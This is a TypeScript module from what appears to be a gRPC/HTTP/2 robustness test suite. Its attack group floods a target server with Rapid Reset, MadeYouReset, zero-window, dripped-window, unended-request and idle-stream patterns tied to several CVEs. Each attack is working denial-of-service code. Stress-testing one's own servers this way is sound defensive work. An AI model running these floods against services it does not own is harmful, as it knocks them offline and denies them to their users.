/** Attacks by streams: reset, never ended, never taken, and in numbers. */
import type { Attack, AttackGroup, Target } from "../attack.ts";
import {
  callBlock,
  data,
  dataFrames,
  type Fields,
  frame,
  FrameType,
  headers,
  join,
  renumber,
  repeat,
  rstStream,
  Setting,
  uint32,
  windowUpdate,
} from "../frames.ts";
import { ALMOST_4_MIB, EMPTY, envelope, GREETER, gzipEnvelope, HASH, lengthDelimited, MIB } from "../messages.ts";
import { atRate, Http2Wire, isOver, onEach, sleep, waitForEnd } from "../sockets.ts";

const SAY_HELLO = `${GREETER}/SayHello`;
const HELLO = envelope(lengthDelimited(1, "x"));
const GZIP: Fields = [["grpc-encoding", "gzip"], ["grpc-accept-encoding", "identity"]];

/** 4 KB that are a greeting of almost 4 MiB, both ways. */
const LONG_HELLO = gzipEnvelope(lengthDelimited(1, "x".repeat(ALMOST_4_MIB)));

/** Sends what makes a stream, again and again, and comes back when it is thrown out. */
async function floodStreams(target: Target, make: (streamId: number) => Uint8Array, perBurst = 200) {
  let [connections, streams] = [0, 0];
  let goaway = "";
  while (performance.now() < target.endMs && connections < 100) {
    const http2 = await Http2Wire.connect(target).catch(() => undefined);
    connections++;
    if (http2 !== undefined) {
      const burst = join(...Array.from({ length: perBurst }, (_, index) => make(2 * index + 1)));
      let increment = 0;
      streams += perBurst * await http2.wire.flood(target, () => {
        renumber(burst, increment);
        increment = 2 * perBurst;
        return burst;
      });
      goaway ||= http2.goaway;
      http2.close();
    }
  }
  return { notes: [`${connections} connections, ${streams} streams; ${goaway || "no GOAWAY"}`] };
}

/** Opens a call whose handler is at work, and has the server reset it: MadeYouReset. */
const madeYouReset = (name: string, what: string, fault: (streamId: number) => Uint8Array): Attack => ({
  name: `made-you-reset-${name}`,
  title: `Calls that the server has to reset: ${what} (CVE-2025-8671)`,
  run: (target) =>
    floodStreams(target, (id) =>
      join(
        headers(id, callBlock(`${GREETER}/Converse`)),
        data(id, HELLO),
        fault(id),
      )),
});

/** Asks for long responses on 128 streams of each connection, and takes none. */
async function refuseAnswers(
  target: Target,
  { connections, streams = 128, drip = 0 }: { connections: number; streams?: number; drip?: number },
) {
  const open: Http2Wire[] = [];
  await onEach(connections, async () => {
    const http2 = await Http2Wire.connect(target, {
      takesResponses: false,
      settings: [[Setting.initialWindowSize, 0]],
    });
    open.push(http2);
    for (let stream = 0; stream < streams && !isOver(target); stream++) {
      await http2.call(SAY_HELLO, LONG_HELLO, "application/grpc", GZIP);
    }
  });
  await atRate(target, 10, async () => {
    for (const http2 of drip > 0 ? open : []) {
      await http2.wire.send(join(...Array.from({ length: streams }, (_, index) => windowUpdate(2 * index + 1, drip))));
    }
  });
  return { notes: open.map(({ goaway, reset }) => `${goaway || "no GOAWAY"}, ${reset.size} reset`).slice(0, 1) };
}

export const http2Streams: AttackGroup = {
  name: "http2-streams",
  attacks: [
    {
      name: "rapid-reset",
      title: "Calls that are reset at once (CVE-2023-44487)",
      run: (target) => floodStreams(target, (id) => join(headers(id, callBlock(SAY_HELLO)), rstStream(id))),
    },
    {
      name: "rapid-reset-bidi",
      title: "Calls whose handler is at work when they are reset (CVE-2023-44487)",
      run: (target) =>
        floodStreams(
          target,
          (id) => join(headers(id, callBlock(`${GREETER}/Converse`)), data(id, HELLO), rstStream(id)),
        ),
    },
    {
      name: "rapid-reset-work",
      title: "Calls that make the server hash, and are reset (CVE-2023-44487)",
      run: (target) => {
        const body = dataFrames(1, gzipEnvelope(lengthDelimited(1, "x".repeat(MIB))), true);
        return floodStreams(target, (id) => {
          body.set(uint32(id), 5);
          return join(headers(id, callBlock(`${HASH}/Sha`, "application/grpc", GZIP)), body, rstStream(id));
        }, 8);
      },
    },
    madeYouReset("window-update-0", "WINDOW_UPDATE of 0", (id) => windowUpdate(id, 0)),
    madeYouReset("window-overflow", "a window above 2^31-1", (id) => windowUpdate(id, 0x7fff_ffff)),
    madeYouReset("priority-length", "PRIORITY of 4 bytes", (id) => frame(FrameType.priority, 0, id, uint32(0))),
    madeYouReset(
      "priority-itself",
      "PRIORITY that depends on itself",
      (id) => frame(FrameType.priority, 0, id, join(uint32(id), new Uint8Array([1]))),
    ),
    madeYouReset(
      "data-after-end",
      "DATA after the end",
      (id) => join(data(id, EMPTY, true), data(id, HELLO)),
    ),
    madeYouReset(
      "headers-after-end",
      "HEADERS after the end",
      (id) => join(data(id, EMPTY, true), headers(id, callBlock(SAY_HELLO))),
    ),
    {
      name: "made-you-reset-length",
      title: "Calls that the server has to reset: another content-length than announced (CVE-2025-8671)",
      run: (target) =>
        floodStreams(
          target,
          (id) =>
            join(
              headers(id, callBlock(SAY_HELLO, "application/grpc", [["content-length", "3"]])),
              data(id, HELLO, true),
            ),
        ),
    },
    {
      name: "refused-streams",
      title: "Ten times as many streams as are allowed, none of which ends: each is refused",
      run: (target) => floodStreams(target, (id) => headers(id, callBlock(`${HASH}/ShaStream`))),
    },
    {
      name: "responses-not-taken",
      title: "128 requests of 4 KB for responses of 4 MB, with a window of 0: 596 MiB (B.6, CVE-2019-9517)",
      run: (target) => refuseAnswers(target, { connections: 1 }),
    },
    {
      name: "responses-not-taken-many",
      title: "The same by 16 connections, 16 streams each: what each may hold is bounded, and what all may (B.6)",
      run: (target) => refuseAnswers(target, { connections: 16, streams: 16 }),
    },
    {
      name: "responses-dripped",
      title: "The same, with one byte of window every 100 ms: any progress is not enough (B.6, CVE-2019-9511)",
      run: (target) => refuseAnswers(target, { connections: 4, streams: 32, drip: 1 }),
    },
    {
      name: "responses-not-read",
      title: "Windows of 2 GiB on 20 connections that are not read (CVE-2019-9517)",
      run: async (target) => {
        await onEach(20, async () => {
          const settings = [[Setting.initialWindowSize, 0x7fff_ffff]] as const;
          const http2 = await Http2Wire.connect(target, { settings, reads: false });
          for (let stream = 0; stream < 32 && !isOver(target); stream++) {
            await http2.call(SAY_HELLO, LONG_HELLO, "application/grpc", GZIP);
          }
        });
        await waitForEnd(target);
      },
    },
    {
      name: "streamed-responses-not-taken",
      title: "Converse of 1 MiB names on 128 streams whose responses are not taken (CVE-2019-9517)",
      maxBytes: 64 * MIB,
      run: async (target) => {
        const turns = repeat(gzipEnvelope(lengthDelimited(1, "x".repeat(MIB))), 100);
        await onEach(4, async () => {
          const http2 = await Http2Wire.connect(target, {
            takesResponses: false,
            settings: [[Setting.initialWindowSize, 0]],
          });
          const ids = Array.from({ length: 128 }, () => http2.takeStreamId());
          await http2.wire.send(
            join(...ids.map((id) => headers(id, callBlock(`${GREETER}/Converse`, "application/grpc", GZIP)))),
          );
          await Promise.all(ids.map((id) => http2.sendData(target, id, turns)));
        });
      },
    },
    {
      name: "requests-without-end",
      title: "64 requests of 3.9 MB on each of 4 connections that do not end (B.6)",
      maxBytes: 600 * MIB,
      durationMs: 3000,
      run: async (target) => {
        const content = new Uint8Array(3_900_000);
        await onEach(4, async () => {
          const http2 = await Http2Wire.connect(target);
          const head = envelope(EMPTY, 0, ALMOST_4_MIB);
          const ids = Array.from({ length: 64 }, () => http2.takeStreamId());
          await http2.wire.send(join(...ids.map((id) => join(headers(id, callBlock(SAY_HELLO)), data(id, head)))));
          await Promise.all(ids.map((id) => http2.sendData(target, id, content)));
        });
        await waitForEnd(target);
      },
    },
    {
      name: "requests-of-connect-without-end",
      title: "The same by Connect, whose requests have no length (B.6)",
      maxBytes: 300 * MIB,
      durationMs: 3000,
      run: async (target) => {
        const content = new Uint8Array(3_900_000);
        await onEach(4, async () => {
          const http2 = await Http2Wire.connect(target);
          const ids = Array.from({ length: 32 }, () => http2.takeStreamId());
          await http2.wire.send(join(...ids.map((id) => headers(id, callBlock(SAY_HELLO, "application/proto")))));
          await Promise.all(ids.map((id) => http2.sendData(target, id, content)));
        });
        await waitForEnd(target);
      },
    },
    {
      name: "one-byte-data",
      title: "Requests in DATA frames of 1 byte on 100 streams (CVE-2026-84304)",
      run: async (target) => {
        const http2 = await Http2Wire.connect(target);
        const ids = Array.from({ length: 100 }, () => http2.takeStreamId());
        const head = envelope(EMPTY, 0, ALMOST_4_MIB);
        await http2.wire.send(join(...ids.map((id) => join(headers(id, callBlock(SAY_HELLO)), data(id, head)))));
        await http2.wire.flood(target, join(...ids.map((id) => data(id, new Uint8Array(1)))));
      },
    },
    {
      name: "calls-in-one-write",
      title: "5,000 calls in one write, again and again: others get their turn",
      run: (target) =>
        floodStreams(target, (id) => join(headers(id, callBlock(SAY_HELLO)), data(id, HELLO, true)), 5000),
    },
    {
      name: "costly-calls-in-one-write",
      title: "128 requests of 4 KB that are 4 MB to hash, in one write: each is short, and all of them hold the thread",
      run: async (target) => {
        const body = gzipEnvelope(lengthDelimited(1, "x".repeat(ALMOST_4_MIB)));
        const http2 = await Http2Wire.connect(target);
        while (!isOver(target) && !http2.isClosed) {
          const before = http2.ended.size;
          const calls = Array.from({ length: 128 }, () => {
            const id = http2.takeStreamId();
            return join(headers(id, callBlock(`${HASH}/Sha`, "application/grpc", GZIP)), dataFrames(id, body, true));
          });
          await http2.wire.send(join(...calls));
          while (http2.ended.size < before + 128 && performance.now() < target.endMs && !http2.isClosed) {
            await sleep(5);
          }
        }
        return { notes: [`${http2.ended.size} ended; ${http2.goaway || "no GOAWAY"}`] };
      },
    },
    {
      name: "idle-streams",
      title: "128 streams on each of 30 connections that say nothing more",
      run: async (target) => {
        await onEach(30, async () => {
          const http2 = await Http2Wire.connect(target);
          const opening = Array.from(
            { length: 128 },
            () => headers(http2.takeStreamId(), callBlock(`${GREETER}/Converse`)),
          );
          await http2.wire.send(join(...opening));
        });
        await waitForEnd(target);
      },
    },
  ] satisfies readonly Attack[],
};
